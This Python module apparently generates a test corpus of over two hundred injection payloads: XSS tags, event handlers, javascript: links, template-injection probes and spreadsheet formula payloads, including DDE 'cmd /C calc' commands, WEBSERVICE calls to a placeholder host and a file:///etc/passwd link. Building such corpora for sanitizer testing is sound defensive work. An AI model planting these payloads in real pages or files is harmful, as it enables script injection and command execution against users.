"""Texts that attack browsers and spreadsheets, of our own making: each calls `window.alert` or is a formula.

`every_payload` gives more than two hundred, by putting a few dozen cores into the contexts that pages have.
"""

from collections.abc import Iterator

_CALL = "alert(1)"

_TAGS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script src=data:,{_CALL}></script>",
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror='{_CALL}'>",
    f'<img src="x" onerror="{_CALL}">',
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video src=x onerror={_CALL}></video>",
    f"<a href=javascript:{_CALL}>link</a>",
    f"<form action=javascript:{_CALL}><button>go</button></form>",
    f"<math><mi xlink:href=javascript:{_CALL}>x</mi></math>",
    f"<style>@import 'data:,*{{x:expression({_CALL})}}';</style>",
    f"<object data=javascript:{_CALL}></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<marquee onstart={_CALL}>m</marquee>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<div style=animation-name:x onanimationstart={_CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>",
    f"<base href=javascript:{_CALL}//>",
    f"<link rel=stylesheet href=javascript:{_CALL}>",
    f"<x onclick={_CALL} tabindex=1 autofocus onfocus={_CALL}>x</x>",
    f"<audio src onloadstart={_CALL}>",
)
_ESCAPES = (
    f'" onmouseover="{_CALL}" x="',
    f"' onmouseover='{_CALL}' x='",
    f'" autofocus onfocus="{_CALL}',
    f"--><script>{_CALL}</script><!--",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"';{_CALL};//",
    f'";{_CALL};//',
    f"`;{_CALL};//",
    "${" + _CALL + "}",
    "{{" + _CALL + "}}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}{{ 7*7 }}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"\u2028{_CALL}\u2029",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
)
_LINKS = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f" javascript:{_CALL}",
    f"java\tscript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    f'https://x.example/"onmouseover="{_CALL}',
    f"https://x.example/'><script>{_CALL}</script>",
    f"//x.example/{_CALL}",
    "file:///etc/passwd",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://x.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("https://x.example","//a")',
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=WEBSERVICE("https://x.example")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "%0A=1+1",
    "=@SUM(1)",
    "+cmd|' /C calc'!A0",
)  # fmt: skip


def every_payload() -> Iterator[str]:
    """Yield every payload once; the tags and escapes also within words and quotes, and in other letters' company."""
    seen = set()
    for core in (*_TAGS, *_ESCAPES, *_LINKS, *_FORMULAS):
        variants = [core, f"Mayor {core} of Kherson"]
        variants += [f"“{core}”"] if core in (*_TAGS, *_ESCAPES) else [core + " Ж"]
        for payload in variants:
            if payload not in seen:
                seen.add(payload)
                yield payload


PAYLOADS = tuple(every_payload())
FORMULAS = _FORMULAS
